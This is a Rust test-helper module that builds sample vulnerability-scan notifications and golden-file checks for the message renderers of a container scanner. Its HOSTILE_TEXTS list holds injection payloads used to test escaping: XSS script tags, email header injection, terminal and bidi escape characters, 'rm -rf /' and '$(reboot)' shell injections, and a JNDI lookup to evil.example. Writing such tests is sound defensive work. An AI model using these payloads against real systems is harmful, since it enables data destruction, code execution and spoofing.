//! Messages that the tests of every renderer share.

use cleanbill_core::change::{Cause, Change, ChangeKind, FindingKey, KnownFinding};
use cleanbill_core::package::LayerId;
use cleanbill_core::problem::AssessmentStatus;
use cleanbill_core::report::{ImageReport, ScanReport};
use cleanbill_core::severity::FixStatus;
use cleanbill_core::vulnerability::Finding;
use cleanbill_core::{DiffId, Digest, Severity};
use jiff::Timestamp;
use proptest::prelude::*;
use serde_json::Value;

use super::channel::Service;
use super::compose::{
    ComposeSettings, Cycle, HeartbeatFacts, ImageFacts, compose, heartbeat, test_message,
};
use super::message::{Counts, GateVerdict, Notification};
use super::outline::Rendered;
use super::split::split;
use super::summary::{SummaryOptions, summary};

pub(super) fn time(text: &str) -> Timestamp {
    text.parse().unwrap()
}

pub(super) fn settings() -> ComposeSettings {
    ComposeSettings {
        host: "docker-07".to_owned(),
        report: "/var/log/security-scans/scan-summary.log".to_owned(),
        ..ComposeSettings::default()
    }
}

pub(super) fn facts(name: &str, counts: Counts) -> ImageFacts {
    ImageFacts {
        name: name.to_owned(),
        counts,
        log_path: format!(
            "/var/log/security-scans/scan-2026-11-22T06-30-00Z--{}.log",
            name.replace(['/', ':'], "__")
        ),
        ..ImageFacts::default()
    }
}

pub(super) fn finding(id: &str, severity: Severity, package: &str) -> KnownFinding {
    KnownFinding {
        key: FindingKey {
            vulnerability_id: id.to_owned(),
            kind: "debian".to_owned(),
            package_name: package.to_owned(),
            package_path: String::new(),
        },
        installed_version: "3.0.11-1~deb12u2".to_owned(),
        fixed_version: "3.0.13-1~deb12u1".to_owned(),
        fix_status: FixStatus::Fixed,
        severity,
        title: format!("{package}: a buffer is written beyond its end"),
        primary_url: format!("https://avd.aquasec.com/nvd/{}", id.to_lowercase()),
        advisory_source: "debian".to_owned(),
        published: "2026-11-20T10:00:00Z".to_owned(),
        layer: Some(LayerId {
            digest: None,
            diff_id: DiffId(Digest::of(package.as_bytes())),
        }),
        created_by: format!("RUN apt-get update && apt-get install -y {package}"),
        ..KnownFinding::default()
    }
}

pub(super) fn change(image: &str, kind: ChangeKind, cause: Cause, finding: KnownFinding) -> Change {
    Change {
        image: image.to_owned(),
        kind,
        cause,
        finding: Some(finding),
    }
}

pub(super) fn image_changed() -> Cause {
    Cause::ImageChanged {
        from: Some(Digest::of(b"before")),
        to: Some(Digest::of(b"after")),
    }
}

pub(super) fn advisory_changed() -> Cause {
    Cause::AdvisoryChanged {
        from: "2026-11-21T18:00:00Z".to_owned(),
        to: "2026-11-22T00:00:00Z".to_owned(),
    }
}

fn counts(numbers: [u64; 6]) -> Counts {
    let [distinct, critical, high, medium, low, unknown] = numbers;
    Counts {
        distinct,
        critical,
        high,
        medium,
        low,
        unknown,
    }
}

/// What a bad morning looks like: everything that can happen, once.
pub(super) fn changes() -> Notification {
    let exploited = KnownFinding {
        is_known_exploited: true,
        epss_score: Some(0.934),
        ..finding("CVE-2024-3094", Severity::Critical, "liblzma5")
    };
    let unfixed = KnownFinding {
        fixed_version: String::new(),
        fix_status: FixStatus::WillNotFix,
        epss_score: Some(0.021),
        ..finding("CVE-2023-4039", Severity::High, "gcc-12-base")
    };
    let changes = [
        change(
            "shop/web:1.4",
            ChangeKind::New,
            image_changed(),
            exploited.clone(),
        ),
        change("shop/api:2.0", ChangeKind::New, image_changed(), exploited),
        change("shop/web:1.4", ChangeKind::New, advisory_changed(), unfixed),
        change(
            "shop/api:2.0",
            ChangeKind::SeverityChanged {
                from: Severity::Medium,
            },
            advisory_changed(),
            finding("CVE-2024-5535", Severity::Critical, "openssl"),
        ),
        change(
            "db/postgres:16",
            ChangeKind::FixAvailable,
            advisory_changed(),
            finding("CVE-2024-2961", Severity::High, "libc6"),
        ),
        change(
            "db/postgres:16",
            ChangeKind::Resolved,
            image_changed(),
            finding("CVE-2023-44487", Severity::High, "nghttp2"),
        ),
        Change {
            image: "db/redis:7".to_owned(),
            kind: ChangeKind::AssessmentRegained,
            cause: Cause::Assessment,
            finding: None,
        },
        lost("old/thing:latest"),
    ];
    let mut web = facts("shop/web:1.4", counts([12, 1, 4, 6, 3, 0]));
    web.containers = vec!["web-1".to_owned(), "web-2".to_owned()];
    let mut api = facts("shop/api:2.0", counts([7, 2, 3, 2, 0, 1]));
    api.containers = vec!["api".to_owned()];
    let images = [
        web,
        api,
        facts("db/postgres:16", counts([3, 0, 1, 2, 0, 0])),
        facts("db/redis:7", counts([0; 6])),
        failed("old/thing:latest"),
    ];
    composed(&changes, &images)
}

fn lost(image: &str) -> Change {
    Change {
        image: image.to_owned(),
        kind: ChangeKind::AssessmentLost {
            status: AssessmentStatus::Failed,
            reason: "the image is gone".to_owned(),
        },
        cause: Cause::Assessment,
        finding: None,
    }
}

fn failed(image: &str) -> ImageFacts {
    ImageFacts {
        status: AssessmentStatus::Failed,
        reason: "cannot open the image: layer sha256:0123 is missing".to_owned(),
        ..facts(image, Counts::default())
    }
}

pub(super) fn composed(changes: &[Change], images: &[ImageFacts]) -> Notification {
    compose(&Cycle {
        id: "cycle-2026-11-22T06-30-00Z",
        time: time("2026-11-22T06:30:00Z"),
        since: None,
        changes,
        images,
        database_updated_at: Some(time("2026-11-22T00:00:00Z")),
        references: &["cycle-2026-11-20T06-30-00Z".to_owned()],
        settings: &settings(),
    })
    .unwrap()
}

pub(super) fn quiet() -> Notification {
    let images: Vec<ImageFacts> = (1..=42)
        .map(|number| facts(&format!("shop/app-{number}:1"), counts([1, 0, 0, 1, 0, 0])))
        .collect();
    heartbeat(&HeartbeatFacts {
        id: "heartbeat-2026-47",
        time: time("2026-11-22T06:30:00Z"),
        images: &images,
        database_updated_at: Some(time("2026-11-22T01:30:00Z")),
        settings: &settings(),
    })
}

pub(super) fn errors() -> Notification {
    let partial = ImageFacts {
        status: AssessmentStatus::Partial,
        reason: "Oracle Linux 9.9 is not in the advisory database".to_owned(),
        containers: vec!["billing".to_owned()],
        ..facts("billing/core:9", counts([2, 0, 1, 1, 0, 0]))
    };
    composed(
        &[lost("old/thing:latest"), lost("billing/core:9")],
        &[
            failed("old/thing:latest"),
            partial,
            failed("known/broken:1"),
        ],
    )
}

/// A saved report that a gate does not let pass.
pub(super) fn stopped() -> Notification {
    let of = |id: &str, severity, package: &str, fixed_version: &str| Finding {
        vulnerability_id: id.to_owned(),
        severity,
        package_name: package.to_owned(),
        installed_version: "1.0".to_owned(),
        fixed_version: fixed_version.to_owned(),
        status: FixStatus::WillNotFix,
        ..Finding::default()
    };
    let findings = vec![
        of("CVE-2026-0001", Severity::Critical, "libssl3", "1.1"),
        of("CVE-2026-0001", Severity::Critical, "openssl", "1.1"),
        of("CVE-2026-0002", Severity::High, "perl-base", ""),
    ];
    let report = ScanReport {
        images: vec![ImageReport::of_findings("shop/web:1.4", findings)],
        ..ScanReport::default()
    };
    let reasons = [
        "critical: 2 findings, 0 are allowed".to_owned(),
        "perl-base is not allowed (config/trivy-config.yaml:7): <@U123> *no*".to_owned(),
    ];
    let options = SummaryOptions {
        id: "summary-1",
        time: time("2026-11-22T06:30:00Z"),
        settings: &settings(),
        gate: Some(&GateVerdict::of(&reasons)),
        severities: &[Severity::Critical, Severity::High],
    };
    summary(&report, &options)
}

pub(super) fn test() -> Notification {
    test_message("test-1", time("2026-11-22T06:30:00Z"), &settings())
}

/// Five hundred vulnerabilities in forty images, all named.
pub(super) fn many() -> Notification {
    let names: Vec<String> = (0..40)
        .map(|number| format!("registry.example/team/app-{number}:2026.11"))
        .collect();
    let severities = [
        Severity::Critical,
        Severity::High,
        Severity::Medium,
        Severity::Low,
    ];
    let changes: Vec<Change> = (0..500_usize)
        .flat_map(|number| {
            let id = format!("CVE-2026-{:05}", 10_000 + number);
            let found = finding(&id, severities[number % 4], &format!("lib-{}", number % 60));
            let images = names.iter().cycle().skip(number).take(1 + number % 7);
            let changes = images
                .map(move |image| change(image, ChangeKind::New, image_changed(), found.clone()));
            changes.collect::<Vec<_>>()
        })
        .collect();
    let images: Vec<ImageFacts> = names
        .iter()
        .map(|name| facts(name, counts([80, 20, 20, 20, 20, 0])))
        .collect();
    let everything = ComposeSettings {
        vulnerabilities_max: 500,
        hits_max: 100,
        ..settings()
    };
    compose(&Cycle {
        id: "cycle-many",
        time: time("2026-11-22T06:30:00Z"),
        since: Some(time("2026-11-21T06:30:00Z")),
        changes: &changes,
        images: &images,
        database_updated_at: None,
        references: &[],
        settings: &everything,
    })
    .unwrap()
}

/// Texts that try to become something else in one medium or another.
pub(super) const HOSTILE_TEXTS: [&str; 20] = [
    "<!here> <!channel> <@U123> @everyone @here @channel @all",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "[click](https://evil.example/)",
    "![x](https://evil.example/pixel.png)",
    "<https://evil.example|Full report>",
    "https://evil.example/ www.evil.example",
    "*bold* _it_ ~st~ **b** __u__ ||spoiler||",
    "`code` ```block```",
    "a\r\nBcc: victim@example.com\r\n\r\nbody",
    "\u{1b}[2J\u{7}\u{0}\u{9b}31m",
    "\u{202e}gnp.exe\u{2066}\u{200b}\u{feff}",
    "&lt;!here&gt; &amp; &#60;",
    "# title\n> quote\n- item\n---",
    "| a | b |\n|---|---|",
    "~town-square #general :warning: :skull:",
    "\\\\\\*\\_\\",
    "'; rm -rf / #",
    "$(reboot) `reboot`",
    "%s%n{{template}}${jndi:ldap://evil.example/a}",
];

pub(super) fn hostile() -> Notification {
    let all = HOSTILE_TEXTS.join(" ");
    let mut changes: Vec<Change> = HOSTILE_TEXTS
        .iter()
        .map(|text| hostile_change(text))
        .collect();
    changes.push(hostile_change(&all));
    changes.push(hostile_change(&"<&>\"'`*_~|@".repeat(2_000)));
    changes.push(hostile_change(&"漢\u{301}😀".repeat(2_000)));
    let images: Vec<ImageFacts> = changes
        .iter()
        .map(|change| ImageFacts {
            containers: vec![change.image.clone(); 9],
            log_path: change.image.clone(),
            ..facts(&change.image, counts([1, 1, 0, 0, 0, 0]))
        })
        .chain([ImageFacts {
            reason: all.clone(),
            containers: vec![all.clone()],
            ..failed(&all)
        }])
        .collect();
    changes.push(lost(&all));
    let mut message = composed(&changes, &images);
    let reasons = HOSTILE_TEXTS.map(|text| text.repeat(20));
    message.gate = Some(GateVerdict::of(&reasons));
    message.report = HOSTILE_TEXTS[5].to_owned();
    message.host = HOSTILE_TEXTS[0].to_owned();
    message.subject_prefix = HOSTILE_TEXTS[9].to_owned();
    message
}

pub(super) fn hostile_change(text: &str) -> Change {
    let found = KnownFinding {
        installed_version: text.to_owned(),
        fixed_version: text.to_owned(),
        title: text.to_owned(),
        primary_url: text.to_owned(),
        advisory_source: text.to_owned(),
        created_by: text.to_owned(),
        ..finding(text, Severity::Critical, text)
    };
    let cause = Cause::ExceptionChanged {
        exception: text.to_owned(),
    };
    change(text, ChangeKind::New, cause, found)
}

/// Messages with any text everywhere.
pub(super) fn any_message() -> impl Strategy<Value = Notification> {
    let sign = "[-<>&\"'`*_~|@#:/\\\\(){}\\[\\]!. a\r\n\u{0}\u{1b}\u{202e}漢]{0,40}";
    let text = prop_oneof![
        4 => sign.prop_map(|text: String| text),
        2 => proptest::sample::select(&HOSTILE_TEXTS[..]).prop_map(str::to_owned),
        1 => (sign, 1..150_usize).prop_map(|(text, times): (String, usize)| text.repeat(times)),
    ];
    proptest::collection::vec(text, 1..14).prop_map(|texts| {
        let changes: Vec<Change> = texts.iter().map(|text| hostile_change(text)).collect();
        let images: Vec<ImageFacts> = texts
            .iter()
            .map(|text| ImageFacts {
                containers: vec![text.clone(); text.len() % 12],
                status: AssessmentStatus::ALL[text.len() % 3],
                reason: text.clone(),
                ..facts(text, counts([1, 1, 0, 0, 0, 0]))
            })
            .collect();
        let mut message = composed(&changes, &images);
        message.gate = Some(GateVerdict::of(&texts));
        message.severities.clone_from(&texts);
        message.report = texts[0].clone();
        message.host = texts[0].clone();
        message.subject_prefix = texts[0].clone();
        message
    })
}

/// Every sample by the name of its golden file.
pub(super) fn all() -> [(&'static str, Notification); 7] {
    [
        ("stopped", stopped()),
        ("changes", changes()),
        ("heartbeat", quiet()),
        ("errors", errors()),
        ("test", test()),
        ("many", many()),
        ("hostile", hostile()),
    ]
}

/// Compares with a golden file; with `CLEANBILL_UPDATE_GOLDEN` set it writes it.
#[track_caller]
pub(super) fn check_golden(name: &str, content: &str) {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("testdata/notify")
        .join(name);
    if std::env::var_os("CLEANBILL_UPDATE_GOLDEN").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, content).unwrap();
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_default();
    assert_eq!(content, expected, "{} differs", path.display());
}

/// Renders every sample, checks each part, and compares with the golden files. Of the message
/// that is too long for one part only the sizes are kept.
#[track_caller]
pub(super) fn check_service(name: &str, service: &impl Service, check: impl Fn(&Value)) {
    for (sample, message) in all() {
        let parts = rendered_parts(service, message);
        let mut golden = String::new();
        for part in &parts {
            let body: Value = serde_json::from_str(&part.body).unwrap();
            check(&body);
            check_texts(&body);
            golden += &match sample {
                "many" => format!("{} entries, {} bytes\n", part.shown, part.body.len()),
                _ => format!("{body:#}\n"),
            };
        }
        check_golden(&format!("{name}_{sample}.json"), &golden);
    }
}

pub(super) fn rendered_parts(service: &impl Service, message: Notification) -> Vec<Rendered> {
    let parts = split(message, service.parts_max(), |part| {
        service.render(part).shown
    });
    parts.iter().map(|part| service.render(part)).collect()
}

/// Checks that no text can steer a terminal, hide or turn text around.
#[track_caller]
pub(super) fn check_texts(value: &Value) {
    match value {
        Value::String(text) => {
            let allowed = |char: char| char == '\n' || char == '\u{2060}';
            let shown: String = text.chars().filter(|char| !allowed(*char)).collect();
            assert_eq!(shown, cleanbill_report::text::clean(&shown), "{text}");
        }
        Value::Array(values) => values.iter().for_each(check_texts),
        Value::Object(members) => members.values().for_each(check_texts),
        _ => {}
    }
}

/// Returns every text of a member with this name, wherever it is.
pub(super) fn texts_of<'a>(value: &'a Value, name: &str, found: &mut Vec<&'a str>) {
    match value {
        Value::Array(values) => values.iter().for_each(|value| texts_of(value, name, found)),
        Value::Object(members) => {
            for (key, value) in members {
                match value {
                    Value::String(text) if key == name => found.push(text),
                    value => texts_of(value, name, found),
                }
            }
        }
        _ => {}
    }
}
